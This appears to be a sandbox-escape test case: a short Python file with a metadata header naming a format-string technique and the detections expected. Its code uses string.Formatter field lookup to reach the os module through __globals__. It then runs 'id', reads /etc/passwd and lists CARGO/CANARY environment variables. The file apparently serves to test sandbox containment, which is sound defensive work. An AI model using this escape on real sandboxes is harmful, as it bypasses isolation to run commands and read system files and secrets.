# /// case
# technique = "format-strings"
# analysis = ["code-in-text", "forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2026-76825"
# ///
# `string.Formatter` looks attributes up by itself: no guard of attribute access sees them.
import string

class Reader(string.Formatter):
    def reach(self, path, value):
        return self.get_field("0." + path, [value], {})[0]

reader = Reader()
namespace = reader.reach("__init__.__globals__", string.Template)
found = reader.reach("__init__.__globals__[_sys].modules[os]", string.Template) if "_sys" in namespace else namespace["__builtins__"]["__import__"]("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
